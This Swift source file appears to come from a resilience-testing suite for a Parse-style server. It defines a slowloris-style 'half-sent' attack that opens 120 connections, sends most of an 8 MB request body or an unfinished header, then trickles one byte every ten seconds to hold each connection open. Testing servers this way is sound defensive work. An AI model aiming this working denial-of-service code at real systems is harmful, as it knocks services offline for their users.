import NIOCore
import ParseProtocol
import SuiteClient

/// Requests that never end: bodies of 8 MB, uploads and heads. An attacker sends most of a request at once, then one
/// byte at a time.
struct HalfSentAttack: Attack {
    let name = "half-sent"
    let kind = "half-sent"
    let summary = "bodies of 8 MB, uploads and heads that never end, with and without keys"
    let connections = 120

    private static let bodyBytes = 8_000_000
    private static let sentBytes = 6_000_000
    /// Interval between the single bytes that keep a connection alive.
    private static let pause = Duration.seconds(10)
    /// Interval at which an attacker checks whether the connection was closed, in order to reconnect.
    private static let look = Duration.seconds(1)

    func run(_ attackers: Attackers, until end: ContinuousClock.Instant) async {
        let beginnings = Self.beginnings(for: attackers.target)
        await attackers.each { index in
            while ContinuousClock.now < end {
                do {
                    let link = try await attackers.open(index)
                    async let answer: Void = attackers.exchange(
                        over: link, beginnings[index % beginnings.count], until: end)
                    var nextByte = ContinuousClock.now + Self.pause
                    while link.isOpen, ContinuousClock.now < end {
                        try? await Task.sleep(until: min(end, .now + Self.look), clock: .continuous)
                        guard ContinuousClock.now >= nextByte else { continue }
                        nextByte += Self.pause
                        try? await link.push(ByteBuffer(string: "x"))
                    }
                    link.close()
                    try await answer
                } catch {
                    await attackers.missed(error, until: end)
                }
            }
        }
    }

    private static func beginnings(for target: Target) -> [ByteBuffer] {
        let part = Array("{\"text\":\"".utf8) + [UInt8](repeating: UInt8(ascii: "x"), count: sentBytes)
        func begin(_ method: String, _ path: String, type: String, isAuthorized: Bool) -> ByteBuffer {
            Request.bytes(
                for: target, method: method, path: path, content: part, type: type, length: bodyBytes,
                isAuthorized: isAuthorized)
        }
        return [
            begin("POST", "/classes/Feedback", type: "application/json", isAuthorized: false),
            begin("POST", "/classes/Feedback", type: "application/json", isAuthorized: true),
            begin("POST", "/files/photo.jpg", type: "image/jpeg", isAuthorized: true),
            begin("POST", "/batch", type: "text/plain", isAuthorized: false),
            ByteBuffer(string: "GET \(target.mount)/classes/Product HTTP/1.1\r\nHost: \(target.host)\r\nX-Slow: "),
            begin("POST", "/api/1/envelope/", type: "application/x-sentry-envelope", isAuthorized: false),
        ]
    }
}
